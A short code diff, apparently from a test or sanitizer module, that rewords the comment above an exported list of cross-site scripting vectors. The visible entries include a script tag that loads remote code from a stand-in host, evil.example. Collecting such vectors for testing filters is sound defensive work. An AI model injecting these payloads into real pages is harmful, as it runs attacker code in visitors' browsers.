@@ -1,4 +1,4 @@
-/** Ways to run a script in a page that shows strangers' HTML, of the kinds that public lists collect. */
+/** Ways to run scripts in foreign HTML, from public lists. */
 export const XSS_VECTORS = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
